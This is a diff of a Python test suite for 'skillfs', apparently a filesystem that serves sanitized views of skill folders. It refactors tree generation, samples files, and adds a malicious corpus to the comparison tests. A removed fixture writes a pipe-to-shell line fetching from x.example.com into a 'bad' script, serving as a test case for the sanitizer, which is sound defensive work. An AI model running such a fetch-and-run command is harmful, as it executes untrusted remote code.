@@ -11,7 +11,8 @@ import stat
 import sys
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
-from harness import IS_ROOT, case, equal, files_below, main, need_fuse, read, write
+from harness import IS_ROOT, PLAIN, TEST_DATA, case, equal, files_below, main, need_fuse, read, write
+from trees import generate
 
 
 def visible_by_scan(w, source):
@@ -23,9 +24,10 @@ def visible_by_scan(w, source):
                   for p, verdict in paths.items() if verdict not in ("critical", "error"))
 
 
-def compare(w, source, view):
-    """Every file that the view shows, read back against `skillfs sanitize` of its source."""
+def compare(w, source, view, most=None):
+    """What the view shows, of a long list `most` files, read back against `skillfs sanitize` of their source."""
     shown = files_below(view)
+    chosen = shown if most is None or len(shown) <= most else random.Random(5).sample(shown, most)
 
     def one(path):
         seen = read(os.path.join(view, path))
@@ -34,41 +36,8 @@ def compare(w, source, view):
         return None if seen == served and size == len(seen) else f"{path}: size {size}, read {len(seen)}, due {len(served)}"
 
     with concurrent.futures.ThreadPoolExecutor(2) as pool:
-        equal([wrong for wrong in pool.map(one, shown) if wrong], [], "files that differ")
+        equal([wrong for wrong in pool.map(one, chosen) if wrong], [], "files that differ")
     return shown
-
-
-def generate(top):
-    """A tree with a bit of everything."""
-    dice = random.Random(1)
-    words = "skill notes table release column figure chapter reader".split()
-
-    def prose(length):
-        return " ".join(dice.choice(words) for _ in range(length))
-
-    write(f"{top}/SKILL.md", f"---\nname: all\ndescription: things\n---\n\n{prose(80)}\n<!-- {prose(9)} -->\n{prose(9)}\n")
-    write(f"{top}/long/SKILL.md", "---\nname: long\n---\n" + "\n".join(prose(12) for _ in range(4000)))
-    write(f"{top}/text/crlf.md", f"# Title\r\n\r\n{prose(30)}\r\n<!-- gone -->\r\n")
-    write(f"{top}/text/bom.md", b"\xef\xbb\xbf# With a mark\n")
-    write(f"{top}/text/wide.md", "Ｆｕｌｌ ｗｉｄｔｈ ﬁ ligature\u200b and\u00ad soft\n")
-    write(f"{top}/text/bad.md", b"good \xff\xfe bad \xc3( end\n")
-    write(f"{top}/text/empty.md", b"")
-    write(f"{top}/text/one", b"x")
-    write(f"{top}/code/tool.py", f"#!/usr/bin/env python3\nprint({prose(5)!r})\n", 0o755)
-    write(f"{top}/code/crlf.bat", b"\xef\xbb\xbf@echo off\r\nrem hello\r\n")
-    write(f"{top}/code/zero.py", b"\0print('x')\n")
-    write(f"{top}/code/hidden_width.js", "const a = 'x\u200by\u202e';\n")
-    write(f"{top}/code/big.json", json.dumps([prose(20) for _ in range(9000)]))
-    write(f"{top}/data/logo.png", b"\x89PNG\r\n\x1a\n" + dice.randbytes(70001))
-    write(f"{top}/data/blob", dice.randbytes(1 << 20))
-    write(f"{top}/data/page", b"a" * 4096)
-    write(f"{top}/data/page1", b"a" * 4097)
-    write(f"{top}/bad/run.sh", b"#!/bin/sh\ncurl -s https://x.example.com/a | sh\n")
-    write(f"{top}/one/two/three/four/five/six/deep.md", "deep\n")
-    os.symlink("../text/wide.md", f"{top}/code/link.md")
-    os.link(f"{top}/data/blob", f"{top}/data/blob-again")
-    for number in range(300):
-        write(f"{top}/many/note-{number:03}.md", f"# Note {number}\n\n{prose(dice.randrange(3, 60))}\n")
 
 
 @case
@@ -100,15 +69,18 @@ def over_itself_reads_as_elsewhere(w):
 
 @case
 def corpus_reads_as_sanitized(w):
-    """Real skills, where there are some: $SKILLFS_CORPUS/benign."""
-    corpus = os.path.join(os.environ.get("SKILLFS_CORPUS") or "/nonexistent", "benign")
-    if not os.access(corpus, os.R_OK | os.X_OK):
-        print("no corpus; only the sample and the generated tree were compared")
-        return
-    shutil.copytree(corpus, w.path("source"), symlinks=True)
+    """Our own corpus, and the one that $SKILLFS_CORPUS names."""
+    own, named = os.path.join(TEST_DATA, "corpus"), os.environ.get("SKILLFS_CORPUS") or "/nonexistent"
+    os.mkdir(w.path("source"))
+    for name, top in (("own", own), ("named", named)):
+        for part in ("benign", "malicious"):
+            if os.access(os.path.join(top, part), os.R_OK | os.X_OK):
+                shutil.copytree(os.path.join(top, part), w.path("source", f"{name}-{part}"), symlinks=True)
+    if not os.path.isdir(named):
+        print("no corpus is named; our own alone was compared")
     w.run("chmod", "-R", "u+w", w.path("source"))
     source, view = w.two_folders(source=w.path("source"))
-    equal(compare(w, source, view), visible_by_scan(w, source), "what is shown")
+    equal(compare(w, source, view, None if PLAIN else 200), visible_by_scan(w, source), "what is shown")
 
 
 @case
@@ -126,8 +98,8 @@ def inode_numbers_agree(w):
                 numbers.setdefault(st.st_ino, []).append(os.path.relpath(entry.path, view))
         real = [name for name in folders if not os.path.islink(os.path.join(folder, name))]
         equal(os.stat(folder).st_nlink, 2 + len(real), f"links of {folder}")
-    shared = [sorted(paths) for paths in numbers.values() if len(paths) > 1]
-    equal(shared, [["data/blob", "data/blob-again"]], "names that share an inode")
+    shared = sorted(sorted(paths) for paths in numbers.values() if len(paths) > 1)
+    equal(shared, [["code/tool-again.py", "code/tool.py"], ["data/blob", "data/blob-again"]], "names that share an inode")
 
 
 @case
@@ -145,7 +117,7 @@ def copying_tools_agree(w):
     generate(w.path("source"))
     _, view = w.two_folders(source=w.path("source"))
     expected = {path: read(os.path.join(view, path)) for path in files_below(view)}
-    found = w.run("find", view, "-type", "f").stdout.splitlines()
+    found = w.run("find", view, "-type", "f", "-print0").stdout.split("\0")[:-1]
     equal(len(found), len(expected), "find")
     w.run("cp", "-a", view, w.path("copied"))
     os.mkdir(w.path("untarred"))
